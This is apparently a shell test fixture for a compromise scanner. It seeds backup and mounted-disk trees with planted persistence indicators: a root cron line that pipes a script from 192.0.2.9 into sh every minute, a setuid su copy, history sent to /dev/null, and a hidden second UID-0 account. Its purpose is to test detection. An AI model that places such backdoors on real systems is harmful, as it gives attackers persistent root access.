# id: L156
# mode: scan
# title: a copy of the machine, a mounted disk and the trees of a backup
for place in /srv/backup/web2/2024-05-01 /mnt/old /var/backups/web3; do
    mkdir -p "$place"/{etc/cron.d,usr/bin,root/.ssh,var/spool/cron/crontabs,etc/systemd/system,tmp/.ICE-unix,dev}
    echo '* * * * * root curl -s http://192.0.2.9/x | sh' >"$place/etc/cron.d/old"
    cp /usr/bin/su "$place/usr/bin/su"
    chmod 4755 "$place/usr/bin/su"
    ln -s /dev/null "$place/root/.bash_history"
    printf 'root:x:0:0:root:/root:/bin/bash\nold:x:0:0::/root:/bin/bash\n' >"$place/etc/passwd"
    echo console >"$place/dev/console"
done
